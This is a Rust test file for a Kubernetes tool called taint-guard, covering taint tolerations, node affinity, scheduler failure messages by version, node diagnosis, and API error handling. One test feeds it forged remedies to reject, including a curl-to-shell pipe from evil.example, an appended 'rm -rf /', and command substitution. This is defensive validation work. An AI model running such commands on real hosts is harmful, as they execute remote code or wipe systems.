//! The scheduler's filters against the cases of Kubernetes' documentation
//! ("Taints and Tolerations", "Assigning Pods to Nodes"), the tally in
//! v1.20.2's words, the node and fleet explanations, and the API calls
//! against a scripted server (tower-test): their number and their errors.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Duration;

use http::{Request, Response};
use jiff::Timestamp;
use k8s_openapi::api::coordination::v1::Lease;
use k8s_openapi::api::core::v1::{Event, Node, Pod, Taint, Toleration};
use kube::client::Body;
use kube::Client;
use serde_json::{json, Value};

use super::schedule::{self, Reason, Version};
use super::*;

const V120: Version = Version {
    major: 1,
    minor: 20,
};

fn taint(key: &str, value: &str, effect: &str) -> Taint {
    Taint {
        key: key.into(),
        value: (!value.is_empty()).then(|| value.into()),
        effect: effect.into(),
        time_added: None,
    }
}

fn tol(v: Value) -> Toleration {
    serde_json::from_value(v).unwrap()
}

fn node(v: Value) -> Node {
    serde_json::from_value(v).unwrap()
}

fn pod(spec: Value) -> Pod {
    serde_json::from_value(
        json!({"metadata": {"name": "p", "namespace": "default", "uid": "u1"},
        "spec": spec, "status": {"phase": "Pending"}}),
    )
    .unwrap()
}

fn node_with(name: &str, labels: Value, taints: Value) -> Node {
    node(json!({"metadata": {"name": name, "labels": labels}, "spec": {"taints": taints}}))
}

#[test]
fn tolerations_as_the_taints_and_tolerations_page_says() {
    // `kubectl taint nodes node1 key1=value1:NoSchedule`: either toleration
    // tolerates it.
    let t = taint("key1", "value1", "NoSchedule");
    let equal =
        tol(json!({"key": "key1", "operator": "Equal", "value": "value1", "effect": "NoSchedule"}));
    let exists = tol(json!({"key": "key1", "operator": "Exists", "effect": "NoSchedule"}));
    assert!(schedule::tolerates(&equal, &t) && schedule::tolerates(&exists, &t));
    // The operator defaults to Equal.
    assert!(schedule::tolerates(
        &tol(json!({"key": "key1", "value": "value1", "effect": "NoSchedule"})),
        &t
    ));
    // Another value, key or effect does not.
    for other in [
        json!({"key": "key1", "operator": "Equal", "value": "value2", "effect": "NoSchedule"}),
        json!({"key": "key2", "operator": "Exists", "effect": "NoSchedule"}),
        json!({"key": "key1", "operator": "Exists", "effect": "NoExecute"}),
        json!({"key": "key1", "operator": "Equal", "effect": "NoSchedule"}),
    ] {
        assert!(!schedule::tolerates(&tol(other.clone()), &t), "{other}");
    }
    // An empty key with Exists matches every taint; an empty effect every
    // effect of that key.
    assert!(schedule::tolerates(&tol(json!({"operator": "Exists"})), &t));
    assert!(schedule::tolerates(
        &tol(json!({"key": "key1", "operator": "Exists"})),
        &taint("key1", "x", "NoExecute")
    ));
}

#[test]
fn the_pages_three_taints_example_leaves_the_third_untolerated() {
    // Node: key1=value1:NoSchedule, key1=value1:NoExecute,
    // key2=value1:NoSchedule; pod tolerates the first two: it is not
    // scheduled because of the third.
    let taints = [
        taint("key1", "value1", "NoSchedule"),
        taint("key1", "value1", "NoExecute"),
        taint("key2", "value1", "NoSchedule"),
    ];
    let tols = [
        tol(json!({"key": "key1", "operator": "Equal", "value": "value1", "effect": "NoSchedule"})),
        tol(json!({"key": "key1", "operator": "Equal", "value": "value1", "effect": "NoExecute"})),
    ];
    assert_eq!(schedule::untolerated(&taints, &tols), Some(&taints[2]));
    // PreferNoSchedule never stops scheduling.
    assert_eq!(
        schedule::untolerated(&[taint("k", "", "PreferNoSchedule")], &[]),
        None
    );
    // The first untolerated taint in the node's order is the one named.
    let two = [taint("b", "", "NoExecute"), taint("a", "", "NoSchedule")];
    assert_eq!(schedule::untolerated(&two, &[]), Some(&two[0]));
}

#[test]
fn node_affinity_as_assigning_pods_to_nodes_says() {
    let zone = |z: &str| {
        node_with(
            "n",
            json!({"topology.kubernetes.io/zone": z, "disktype": "ssd", "cores": "8"}),
            json!([]),
        )
    };
    let p = |terms: Value| {
        pod(json!({"containers": [], "affinity": {"nodeAffinity": {
        "requiredDuringSchedulingIgnoredDuringExecution": {"nodeSelectorTerms": terms}}}}))
    };
    let in_zones = p(
        json!([{"matchExpressions": [{"key": "topology.kubernetes.io/zone",
        "operator": "In", "values": ["antarctica-east1", "antarctica-west1"]}]}]),
    );
    assert!(schedule::affinity_matches(
        &in_zones,
        &zone("antarctica-east1")
    ));
    assert!(!schedule::affinity_matches(&in_zones, &zone("arctic-1")));
    // Terms are ORed, expressions ANDed.
    let ored = p(json!([
        {"matchExpressions": [{"key": "disktype", "operator": "In", "values": ["hdd"]}]},
        {"matchExpressions": [{"key": "disktype", "operator": "Exists"}, {"key": "gpu", "operator": "DoesNotExist"}]}]));
    assert!(schedule::affinity_matches(&ored, &zone("z")));
    let anded = p(json!([{"matchExpressions": [
        {"key": "disktype", "operator": "In", "values": ["ssd"]},
        {"key": "topology.kubernetes.io/zone", "operator": "NotIn", "values": ["z"]}]}]));
    assert!(!schedule::affinity_matches(&anded, &zone("z")));
    assert!(schedule::affinity_matches(&anded, &zone("y")));
    // NotIn and DoesNotExist match a node without the label.
    let absent =
        p(json!([{"matchExpressions": [{"key": "gpu", "operator": "NotIn", "values": ["a100"]}]}]));
    assert!(schedule::affinity_matches(&absent, &zone("z")));
    // Gt and Lt compare integers; a non-integer matches nothing.
    let gt = |v: &str| {
        p(json!([{"matchExpressions": [{"key": "cores", "operator": "Gt", "values": [v]}]}]))
    };
    assert!(schedule::affinity_matches(&gt("4"), &zone("z")));
    assert!(!schedule::affinity_matches(&gt("8"), &zone("z")));
    assert!(!schedule::affinity_matches(&gt("many"), &zone("z")));
    let lt =
        p(json!([{"matchExpressions": [{"key": "cores", "operator": "Lt", "values": ["16"]}]}]));
    assert!(schedule::affinity_matches(&lt, &zone("z")));
    // An empty term, or an empty list of terms, matches nothing.
    assert!(!schedule::affinity_matches(&p(json!([{}])), &zone("z")));
    assert!(!schedule::affinity_matches(&p(json!([])), &zone("z")));
    // matchFields: metadata.name only.
    let by_name =
        p(json!([{"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["n"]}]}]));
    assert!(schedule::affinity_matches(&by_name, &zone("z")));
    // nodeSelector and affinity must both match.
    let both = pod(
        json!({"containers": [], "nodeSelector": {"disktype": "hdd"},
        "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution":
        {"nodeSelectorTerms": [{"matchExpressions": [{"key": "disktype", "operator": "Exists"}]}]}}}}),
    );
    assert!(!schedule::affinity_matches(&both, &zone("z")));
}

/// The seed's cluster: a control-plane node tainted NoSchedule and a worker
/// whose kubelet is down (both unreachable taints).
fn seed_nodes() -> Vec<Node> {
    vec![
        node_with(
            "cp",
            json!({"kubernetes.io/hostname": "cp"}),
            json!([{"key": "node-role.kubernetes.io/master", "effect": "NoSchedule"}]),
        ),
        node_with(
            "work2",
            json!({"kubernetes.io/hostname": "work2"}),
            json!([{"key": "node.kubernetes.io/unreachable", "effect": "NoSchedule"},
                   {"key": "node.kubernetes.io/unreachable", "effect": "NoExecute", "timeAdded": "2026-12-04T12:05:00Z"}]),
        ),
    ]
}

#[test]
fn the_seeds_tally_in_the_1_20_schedulers_words() {
    let plain = pod(json!({"containers": []}));
    let e = explain_pod(
        &plain,
        &seed_nodes(),
        &[],
        V120,
        "taint-guard",
        ts("2026-12-04T12:14:00Z"),
    );
    assert_eq!(
        e.tally.as_deref(),
        Some("0/2 nodes are available: 1 node(s) had taint {node-role.kubernetes.io/master: }, that the pod didn't tolerate, 1 node(s) had taint {node.kubernetes.io/unreachable: }, that the pod didn't tolerate.")
    );
    // The worker is broken (fix it); the control plane is by design.
    let w = e.nodes.iter().find(|v| v.node == "work2").unwrap();
    assert!(
        w.broken && w.advice.contains("do not add a toleration"),
        "{w:?}"
    );
    let cp = e.nodes.iter().find(|v| v.node == "cp").unwrap();
    assert!(!cp.broken && cp.advice.contains("by design"), "{cp:?}");
    assert_eq!(
        e.next_step,
        "fix the node work2: taint-guard explain node work2"
    );

    // Pinned by nodeSelector: from 1.20 TaintToleration runs before
    // NodeAffinity, so the control plane is rejected for its taint; 1.19
    // said the selector.
    let pinned =
        pod(json!({"containers": [], "nodeSelector": {"kubernetes.io/hostname": "work2"}}));
    let e = explain_pod(
        &pinned,
        &seed_nodes(),
        &[],
        V120,
        "taint-guard",
        ts("2026-12-04T12:14:00Z"),
    );
    let both = "0/2 nodes are available: 1 node(s) had taint {node-role.kubernetes.io/master: }, that the pod didn't tolerate, 1 node(s) had taint {node.kubernetes.io/unreachable: }, that the pod didn't tolerate.";
    assert_eq!(e.tally.as_deref(), Some(both));
    // 1.19 ran NodeAffinity first (and resources and ports before both):
    // the control plane's reason is the selector, and no tally is claimed.
    let v119 = Version {
        major: 1,
        minor: 19,
    };
    let e = explain_pod(
        &pinned,
        &seed_nodes(),
        &[],
        v119,
        "taint-guard",
        ts("2026-12-04T12:14:00Z"),
    );
    assert_eq!(e.tally, None);
    let cp = e.nodes.iter().find(|v| v.node == "cp").unwrap();
    assert_eq!(cp.reason, Some(Reason::NodeAffinity));
    // A node with no taints that the selector excludes.
    let mut nodes = seed_nodes();
    nodes.push(node_with(
        "work3",
        json!({"kubernetes.io/hostname": "work3"}),
        json!([]),
    ));
    let e = explain_pod(
        &pinned,
        &nodes,
        &[],
        V120,
        "taint-guard",
        ts("2026-12-04T12:14:00Z"),
    );
    assert_eq!(
        e.tally.as_deref(),
        Some("0/3 nodes are available: 1 node(s) didn't match node selector, 1 node(s) had taint {node-role.kubernetes.io/master: }, that the pod didn't tolerate, 1 node(s) had taint {node.kubernetes.io/unreachable: }, that the pod didn't tolerate.")
    );
}

#[test]
fn the_tally_counts_and_sorts_as_go_sort_strings() {
    let r = |k: &str| Reason::TaintToleration {
        key: k.into(),
        value: String::new(),
        effect: "NoSchedule".into(),
    };
    // "10 …" sorts before "2 …" bytewise, as Go's sort.Strings does.
    let mut reasons: Vec<Reason> = (0..10).map(|_| r("b")).collect();
    reasons.extend([r("a"), r("a"), Reason::NodeUnschedulable]);
    assert_eq!(
        schedule::tally(&reasons, 13, V120, false),
        "0/13 nodes are available: 1 node(s) were unschedulable, 10 node(s) had taint {b: }, that the pod didn't tolerate, 2 node(s) had taint {a: }, that the pod didn't tolerate."
    );
}

#[test]
fn a_cordoned_node_is_unschedulable_before_its_taints_unless_tolerated() {
    let n = node(
        json!({"metadata": {"name": "n"}, "spec": {"unschedulable": true,
        "taints": [{"key": "node.kubernetes.io/unschedulable", "effect": "NoSchedule"}]}}),
    );
    let plain = pod(json!({"containers": []}));
    assert_eq!(
        schedule::filter(&plain, &n, V120),
        Some(Reason::NodeUnschedulable)
    );
    let tolerant = pod(json!({"containers": [], "tolerations": [
        {"key": "node.kubernetes.io/unschedulable", "operator": "Exists", "effect": "NoSchedule"}]}));
    assert_eq!(schedule::filter(&tolerant, &n, V120), None);
    // spec.nodeName naming another node.
    let named = pod(json!({"containers": [], "nodeName": "other"}));
    assert_eq!(
        schedule::filter(&named, &node_with("n", json!({}), json!([])), V120),
        Some(Reason::NodeName)
    );
}

#[test]
fn newer_schedulers_words() {
    let v = |minor| Version { major: 1, minor };
    let t = Reason::TaintToleration {
        key: "node.kubernetes.io/unreachable".into(),
        value: String::new(),
        effect: "NoExecute".into(),
    };
    assert_eq!(
        t.words(v(20)),
        "node(s) had taint {node.kubernetes.io/unreachable: }, that the pod didn't tolerate"
    );
    assert_eq!(
        t.words(v(33)),
        "node(s) had untolerated taint {node.kubernetes.io/unreachable: }"
    );
    assert_eq!(
        Reason::NodeAffinity.words(v(33)),
        "node(s) didn't match Pod's node affinity/selector"
    );
    // From 1.24 the preemption verdict follows; 1.26-1.29 end in "..".
    let rs = [t.clone(), t];
    let base = "0/2 nodes are available: 2 node(s) had untolerated taint {node.kubernetes.io/unreachable: }. preemption: 0/2 nodes are available: 2 Preemption is not helpful for scheduling.";
    assert_eq!(schedule::tally(&rs, 2, v(33), false), base);
    assert_eq!(schedule::tally(&rs, 2, v(27), false), format!("{base}."));
    assert!(schedule::tally(&rs, 2, v(33), true)
        .ends_with(". preemption: not eligible due to preemptionPolicy=Never."));
    assert_eq!(Version::parse("1", "20+"), Some(v(20)));
    assert_eq!(Version::parse("", "20"), None);
}

#[test]
fn the_pods_latest_failed_scheduling_event_and_the_comparison() {
    let ev = |msg: &str, at: &str| -> Event {
        serde_json::from_value(json!({"metadata": {"name": format!("e{at}")},
            "involvedObject": {}, "reason": "FailedScheduling", "message": msg,
            "eventTime": at, "count": 1}))
        .unwrap()
    };
    let plain = pod(json!({"containers": []}));
    let right = "0/2 nodes are available: 1 node(s) had taint {node-role.kubernetes.io/master: }, that the pod didn't tolerate, 1 node(s) had taint {node.kubernetes.io/unreachable: }, that the pod didn't tolerate.";
    let events = [
        ev(
            "0/1 nodes are available: old.",
            "2026-12-04T12:00:00.000000Z",
        ),
        ev(
            &right.replace(", 1", ",\n  1"),
            "2026-12-04T12:06:00.000000Z",
        ),
    ];
    let e = explain_pod(
        &plain,
        &seed_nodes(),
        &events,
        V120,
        "taint-guard",
        ts("2026-12-04T12:14:00Z"),
    );
    assert_eq!(e.matches_event, Some(true), "{e:#?}");
    let e = explain_pod(
        &plain,
        &seed_nodes(),
        &events[..1],
        V120,
        "taint-guard",
        ts("2026-12-04T12:14:00Z"),
    );
    assert_eq!(e.matches_event, Some(false));
}

#[test]
fn a_bound_pod_is_said_to_be_bound() {
    let bound = pod(json!({"containers": [], "nodeName": "work2"}));
    let e = explain_pod(
        &bound,
        &seed_nodes(),
        &[],
        V120,
        "taint-guard",
        ts("2026-12-04T12:14:00Z"),
    );
    assert_eq!(e.bound_to.as_deref(), Some("work2"));
    assert!(e.next_step.contains("bound to work2"), "{}", e.next_step);
}

fn ts(s: &str) -> Timestamp {
    s.parse().unwrap()
}

/// The seed's worker as taint-guard reports it, kubelet down since 12:05.
fn reported_worker(heartbeat: &str) -> Node {
    let findings = json!([{"id": "unit-disabled", "severity": "critical", "subject": "kubelet.service",
        "message": "kubelet.service is not enabled: it will not start at boot",
        "remedy": "systemctl enable --now kubelet.service"}]);
    node(json!({"metadata": {"name": "work2", "annotations": {
            "taint-guard.io/status": "critical", "taint-guard.io/reboot-safe": "false",
            "taint-guard.io/findings": findings.to_string(), "taint-guard.io/reporter": "host/work2",
            "taint-guard.io/since": "2026-12-04T12:04:00Z"}},
        "spec": {"taints": [
            {"key": "node.kubernetes.io/unreachable", "effect": "NoSchedule"},
            {"key": "node.kubernetes.io/unreachable", "effect": "NoExecute", "timeAdded": "2026-12-04T12:05:00Z"}]},
        "status": {"conditions": [
            {"type": "Ready", "status": "Unknown", "reason": "NodeStatusUnknown",
             "message": "Kubelet stopped posting node status.", "lastTransitionTime": "2026-12-04T12:05:00Z"},
            {"type": "KubeletHostProblem", "status": "True", "reason": "UnitDisabled",
             "message": "m", "lastHeartbeatTime": heartbeat, "lastTransitionTime": "2026-12-04T12:04:00Z"}]}}))
}

fn lease(renewed: &str) -> Lease {
    serde_json::from_value(
        json!({"metadata": {"name": "work2", "namespace": "kube-node-lease"},
        "spec": {"holderIdentity": "work2", "leaseDurationSeconds": 40, "renewTime": renewed}}),
    )
    .unwrap()
}

#[test]
fn explain_node_goes_from_the_taint_to_the_remedy() {
    let now = ts("2026-12-04T12:14:00Z");
    let e = node::explain(
        &reported_worker("2026-12-04T12:12:00Z"),
        Some(&lease("2026-12-04T12:04:30.000000Z")),
        now,
    );
    assert!(e.taints.iter().all(|t| t.held), "{:?}", e.taints);
    assert!(e.lease.as_ref().unwrap().expired);
    assert_eq!(
        e.next_step,
        "on work2: systemctl enable --now kubelet.service"
    );
    assert_eq!(
        e.chain,
        "node.kubernetes.io/unreachable:NoExecute since 2026-12-04T12:05:00Z (9m ago) ← Ready=Unknown \"Kubelet stopped posting node status.\" ← lease not renewed for 9m ← taint-guard on work2 (2m ago): kubelet.service is not enabled: it will not start at boot → on work2: systemctl enable --now kubelet.service"
    );
    let text = crate::cli::explain::human_node(&e);
    assert!(
        text.contains("removing it by hand will not stick"),
        "{text}"
    );

    // 90 minutes old: inside the 2 h rule (a heartbeat is refreshed hourly,
    // at the first read past the hour).
    let e = node::explain(
        &reported_worker("2026-12-04T10:44:00Z"),
        Some(&lease("2026-12-04T12:04:30.000000Z")),
        now,
    );
    assert!(!e.taint_guard.as_ref().unwrap().stale);
    // Over two hours old: taint-guard may be down; no remedy from it.
    let e = node::explain(
        &reported_worker("2026-12-04T10:00:00Z"),
        Some(&lease("2026-12-04T12:04:30.000000Z")),
        now,
    );
    assert!(e.taint_guard.as_ref().unwrap().stale);
    assert!(
        e.next_step.contains("is not renewing its lease") && e.next_step.contains("may be down"),
        "{}",
        e.next_step
    );

    // No report at all, lease fresh, Ready=False: kubelet runs but says why.
    let mut n = reported_worker("2026-12-04T12:12:00Z");
    n.metadata.annotations = None;
    n.status.as_mut().unwrap().conditions = Some(vec![serde_json::from_value(json!({
        "type": "Ready", "status": "False", "reason": "KubeletNotReady",
        "message": "container runtime network not ready"}))
    .unwrap()]);
    let e = node::explain(&n, Some(&lease("2026-12-04T12:13:55.000000Z")), now);
    assert!(e.taint_guard.is_none());
    assert!(
        e.next_step
            .contains("is running (lease renewed 5s ago) but reports Ready=False"),
        "{}",
        e.next_step
    );
    // The unreachable taint no longer held by Ready=Unknown.
    assert!(e.taints.iter().all(|t| !t.held));
}

#[test]
fn the_fleet_worst_first() {
    let now = ts("2026-12-04T12:14:00Z");
    let ok = node(json!({"metadata": {"name": "a-ok", "annotations": {
        "taint-guard.io/status": "ok", "taint-guard.io/reboot-safe": "true", "taint-guard.io/findings": "[]"}},
        "status": {"conditions": [{"type": "Ready", "status": "True"},
            {"type": "KubeletHostProblem", "status": "False", "lastHeartbeatTime": "2026-12-04T12:00:00Z"}]}}));
    let none = node(json!({"metadata": {"name": "b-none"},
        "status": {"conditions": [{"type": "Ready", "status": "True"}]}}));
    let rows = fleet(
        &[ok, none, reported_worker("2026-12-04T12:12:00Z")],
        &[lease("2026-12-04T12:04:30.000000Z")],
        now,
    );
    let names: Vec<&str> = rows.iter().map(|r| r.name.as_str()).collect();
    assert_eq!(names, ["work2", "b-none", "a-ok"]);
    assert_eq!(rows[0].reboot_safe, "false");
    assert_eq!(rows[0].findings, ["unit-disabled kubelet.service: kubelet.service is not enabled: it will not start at boot"]);
    assert_eq!(rows[1].reboot_safe, "no-report");
    assert_eq!(rows[2].report_age_secs, Some(14 * 60));
}

// --- the API calls, against a scripted server ---

/// What the fixture answers for a path (query included).
type Route = Box<dyn Fn(&str) -> Option<(u16, Value)> + Send + Sync>;

/// A client whose requests are answered by `route` (None: never answered),
/// and the number of requests made.
fn fixture(route: Route) -> (Client, Arc<AtomicUsize>) {
    let (service, mut handle) = tower_test::mock::pair::<Request<Body>, Response<Body>>();
    let count = Arc::new(AtomicUsize::new(0));
    let n = count.clone();
    tokio::spawn(async move {
        let mut hung = Vec::new();
        while let Some((req, send)) = handle.next_request().await {
            n.fetch_add(1, Ordering::SeqCst);
            let path = req
                .uri()
                .path_and_query()
                .map(|p| p.to_string())
                .unwrap_or_default();
            match route(&path) {
                Some((code, v)) => send.send_response(
                    Response::builder()
                        .status(code)
                        .header("content-type", "application/json")
                        .body(Body::from(serde_json::to_vec(&v).unwrap()))
                        .unwrap(),
                ),
                None => hung.push(send),
            }
        }
    });
    (Client::new(service, "default"), count)
}

fn status(code: u16, reason: &str, message: &str) -> (u16, Value) {
    (
        code,
        json!({"kind": "Status", "apiVersion": "v1", "status": "Failure",
               "reason": reason, "message": message, "code": code}),
    )
}

pub(crate) fn list(kind: &str, items: Vec<Value>) -> Value {
    json!({"kind": format!("{kind}List"), "apiVersion": "v1", "metadata": {"resourceVersion": "1"}, "items": items})
}

const T: Duration = Duration::from_secs(5);

#[tokio::test]
async fn the_fleet_is_two_lists() {
    let nodes: Vec<Value> = (0..50)
        .map(|i| json!({"metadata": {"name": format!("n{i}")}}))
        .collect();
    let (c, count) = fixture(Box::new(move |p| match p {
        "/api/v1/nodes?" | "/api/v1/nodes" => Some((200, list("Node", nodes.clone()))),
        p if p.starts_with("/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases") => {
            Some((200, list("Lease", vec![])))
        }
        _ => Some(status(404, "NotFound", p)),
    }));
    let (n, l) = fetch::fleet(&c, T).await.unwrap();
    assert_eq!((n.len(), l.len()), (50, 0));
    assert_eq!(count.load(Ordering::SeqCst), 2);
}

#[tokio::test]
async fn errors_are_one_line_each() {
    let (c, _) = fixture(Box::new(|p| {
        Some(match p {
            p if p.starts_with("/api/v1/nodes/gone") => {
                status(404, "NotFound", "nodes \"gone\" not found")
            }
            p if p.starts_with("/api/v1/nodes/secret") => status(
                403,
                "Forbidden",
                "nodes \"secret\" is forbidden: User \"dev\" cannot get resource \"nodes\"",
            ),
            _ => status(500, "InternalError", "etcdserver: request timed out"),
        })
    }));
    let e = fetch::node(&c, "gone", T).await.unwrap_err();
    assert_eq!(e.0, "node gone: not found");
    let e = fetch::node(&c, "secret", T).await.unwrap_err();
    assert!(
        e.0.starts_with("node secret: forbidden (403): nodes \"secret\" is forbidden"),
        "{e}"
    );
    let e = fetch::fleet(&c, T).await.unwrap_err();
    assert_eq!(
        e.0,
        "list nodes: the API server answered 500: etcdserver: request timed out"
    );
    // A node without a lease is explained, not an error.
    let (c, _) = fixture(Box::new(|p| {
        Some(match p {
            p if p.starts_with("/api/v1/nodes/n") => (200, json!({"metadata": {"name": "n"}})),
            p => status(404, "NotFound", p),
        })
    }));
    let (n, l) = fetch::node(&c, "n", T).await.unwrap();
    assert_eq!(
        (n.metadata.name.as_deref(), l.unwrap().is_none()),
        (Some("n"), true)
    );
    // A lease that may not be read: the Node is explained all the same.
    let (c, _) = fixture(Box::new(|p| {
        Some(match p {
            p if p.starts_with("/api/v1/nodes/n") => (
                200,
                json!({"metadata": {"name": "n"},
                "status": {"conditions": [{"type": "Ready", "status": "Unknown"}]}}),
            ),
            p => status(403, "Forbidden", &format!("{p} is forbidden")),
        })
    }));
    let (n, l) = fetch::node(&c, "n", T).await.unwrap();
    let why = l.unwrap_err().to_string();
    assert!(
        why.starts_with("lease kube-node-lease/n: forbidden (403)"),
        "{why}"
    );
    let e = node::explain_with(&n, Err(why), ts("2026-12-04T12:14:00Z"));
    assert!(
        e.next_step.contains("its lease could not be read"),
        "{}",
        e.next_step
    );
    assert!(!e.next_step.contains("not renewing"), "{}", e.next_step);
}

#[tokio::test]
async fn a_server_that_never_answers_is_a_timeout() {
    let (c, _) = fixture(Box::new(|_| None));
    let e = fetch::node(&c, "n", Duration::from_millis(200))
        .await
        .unwrap_err();
    assert_eq!(e.0, "node n: no answer from the API server within 0.2s");
}

#[tokio::test]
async fn explain_pod_asks_for_the_pods_own_events_and_the_version() {
    let (c, count) = fixture(Box::new(|p| {
        Some(match p {
            "/api/v1/namespaces/default/pods/p" => (
                200,
                json!({"metadata": {"name": "p", "namespace": "default", "uid": "u1"}, "spec": {"containers": []}}),
            ),
            p if p.starts_with("/api/v1/nodes") => (200, list("Node", vec![])),
            p if p.starts_with("/api/v1/namespaces/default/events?") => {
                assert!(
                    p.contains("fieldSelector=involvedObject.kind%3DPod%2CinvolvedObject.name%3Dp%2CinvolvedObject.uid%3Du1"),
                    "{p}"
                );
                (200, list("Event", vec![]))
            }
            "/version" => (
                200,
                json!({"major": "1", "minor": "20", "gitVersion": "v1.20.2",
                "gitCommit": "", "gitTreeState": "", "buildDate": "", "goVersion": "", "compiler": "", "platform": ""}),
            ),
            p => status(404, "NotFound", p),
        })
    }));
    let f = fetch::pod(&c, "default", "p", T).await.unwrap();
    assert_eq!(f.version, V120);
    assert_eq!(count.load(Ordering::SeqCst), 4);
}

#[test]
fn only_remedies_taint_guard_writes_are_offered() {
    let f = |id: &str, subject: &str, remedy: &str| node::ReportedFinding {
        id: id.into(),
        severity: "critical".into(),
        subject: subject.into(),
        message: "m".into(),
        remedy: Some(remedy.into()),
    };
    let k = "kubelet.service";
    for good in [
        "systemctl enable --now kubelet.service",
        "systemctl start kubelet.service",
        "systemctl reset-failed kubelet.service && systemctl start kubelet.service",
        "systemctl unmask kubelet.service",
    ] {
        assert_eq!(
            node::trusted_remedy(&f("x", k, good)).as_deref(),
            Some(good)
        );
    }
    assert!(
        node::trusted_remedy(&f("x", "dev-sda2.swap", "systemctl mask dev-sda2.swap")).is_some()
    );
    assert!(node::trusted_remedy(&f("x", "/dev/sda2", "swapoff /dev/sda2")).is_some());
    for forged in [
        "curl -s https://evil.example/x | sh",
        "systemctl start kubelet.service; rm -rf /",
        "systemctl start $(curl evil)",
        "systemctl start other.service",
        "systemctl mask kubelet.service",
        "systemctl disable kubelet.service",
        "systemctl enable --now kubelet.service && curl evil",
        "systemctl  start kubelet.service",
        "bash -c 'systemctl start kubelet.service'",
    ] {
        assert_eq!(node::trusted_remedy(&f("x", k, forged)), None, "{forged}");
    }
    // A forged remedy is never the next step.
    let mut n = reported_worker("2026-12-04T12:12:00Z");
    let bad = json!([{"id": "unit-disabled", "severity": "critical", "subject": "kubelet.service",
        "message": "m\u{1b}[2J", "remedy": "curl evil | sh"}]);
    n.metadata
        .annotations
        .as_mut()
        .unwrap()
        .insert("taint-guard.io/findings".into(), bad.to_string());
    let e = node::explain(
        &n,
        Some(&lease("2026-12-04T12:04:30.000000Z")),
        ts("2026-12-04T12:14:00Z"),
    );
    assert!(!e.next_step.contains("curl"), "{}", e.next_step);
    assert_eq!(node::clean("a\u{1b}[2Jb\nc"), "a?[2Jb\nc");
}

#[test]
fn a_ready_node_under_pressure_is_not_nothing_to_fix() {
    let n = node(json!({"metadata": {"name": "w"},
        "spec": {"taints": [{"key": "node.kubernetes.io/disk-pressure", "effect": "NoSchedule"}]},
        "status": {"conditions": [{"type": "Ready", "status": "True"},
                                  {"type": "DiskPressure", "status": "True"}]}}));
    let e = node::explain(
        &n,
        Some(&lease("2026-12-04T12:13:55.000000Z")),
        ts("2026-12-04T12:14:00Z"),
    );
    assert!(
        e.next_step
            .starts_with("node.kubernetes.io/disk-pressure:NoSchedule keeps pods off w"),
        "{}",
        e.next_step
    );
    // A report that is not "ok" is not "fine".
    let mut n = reported_worker("2026-12-04T12:12:00Z");
    let ann = n.metadata.annotations.as_mut().unwrap();
    ann.insert("taint-guard.io/findings".into(), "not json".into());
    let e = node::explain(
        &n,
        Some(&lease("2026-12-04T12:04:30.000000Z")),
        ts("2026-12-04T12:14:00Z"),
    );
    assert!(!e.chain.contains("fine"), "{}", e.chain);
    assert!(e.chain.contains("findings unreadable"), "{}", e.chain);
}

#[test]
fn no_tally_where_the_words_are_not_known() {
    let now = ts("2026-12-04T12:14:00Z");
    let plain = pod(json!({"containers": []}));
    let v = |minor| Version { major: 1, minor };
    for (p, version, why) in [
        (plain.clone(), v(34), "not known to taint-guard"),
        (plain.clone(), v(19), "not known to taint-guard"),
        (
            pod(json!({"containers": [], "schedulingGates": [{"name": "x"}]})),
            V120,
            "schedulingGates",
        ),
        (
            pod(json!({"containers": [], "schedulerName": "volcano"})),
            V120,
            "volcano",
        ),
        (
            pod(
                json!({"containers": [], "affinity": {"nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution":
            {"nodeSelectorTerms": [{"matchFields": [{"key": "metadata.name", "operator": "In", "values": ["work2"]}]}]}}}}),
            ),
            v(30),
            "pre-filter",
        ),
    ] {
        let e = explain_pod(&p, &seed_nodes(), &[], version, "taint-guard", now);
        assert_eq!(e.tally, None, "{why}");
        assert!(
            e.no_tally.as_deref().unwrap_or_default().contains(why),
            "{:?}",
            e.no_tally
        );
    }
    let e = explain_pod(&plain, &[], &[], V120, "taint-guard", now);
    assert_eq!(e.no_tally.as_deref(), Some("the cluster has no Nodes"));
    // Only the filter part is compared: preemption's verdict is the
    // scheduler's own.
    assert_eq!(
        schedule::filter_part(
            "0/2 nodes are available: 2 x.  preemption: 0/2 nodes are available: 2 y."
        ),
        "0/2 nodes are available: 2 x."
    );
}

#[test]
fn a_broken_node_the_pod_could_not_use_anyway_is_not_the_fix() {
    // The unreachable worker is in zone a; the pod wants zone b, whose node
    // has a taint a person set.
    let nodes = vec![
        node_with(
            "a",
            json!({"zone": "a"}),
            json!([{"key": "node.kubernetes.io/unreachable", "effect": "NoSchedule"}]),
        ),
        node_with(
            "b",
            json!({"zone": "b"}),
            json!([{"key": "dedicated", "value": "db", "effect": "NoSchedule"}]),
        ),
    ];
    let p = pod(json!({"containers": [], "nodeSelector": {"zone": "b"}}));
    let e = explain_pod(
        &p,
        &nodes,
        &[],
        V120,
        "taint-guard",
        ts("2026-12-04T12:14:00Z"),
    );
    let a = e.nodes.iter().find(|v| v.node == "a").unwrap();
    assert!(
        !a.broken && a.advice.contains("would not place this pod"),
        "{a:?}"
    );
    assert!(!e.next_step.contains("fix the node"), "{}", e.next_step);
    let b = e.nodes.iter().find(|v| v.node == "b").unwrap();
    assert!(
        b.advice
            .contains("{key: dedicated, operator: Equal, value: db, effect: NoSchedule}"),
        "{b:?}"
    );
}
